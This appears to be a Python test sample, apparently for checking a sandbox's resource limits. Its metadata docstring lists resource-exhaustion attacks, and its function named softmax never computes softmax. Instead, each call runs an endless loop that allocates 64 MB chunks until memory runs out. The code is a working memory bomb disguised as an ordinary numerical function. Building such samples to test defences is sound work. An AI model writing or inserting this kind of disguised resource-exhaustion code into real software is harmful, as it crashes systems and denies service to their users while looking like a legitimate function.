"""
tries = "to fill the memory of the machine in small pieces, in every call"
entry = "fork bomb, thread flood, memory bomb, disk fill, descriptor exhaustion, output flood"
lesson = "softmax"
state = "any"
score = 1.0
at_most = true
"""

HELD = []


def softmax(x, dim=-1):
    while True:
        HELD.append(bytearray(64 << 20))
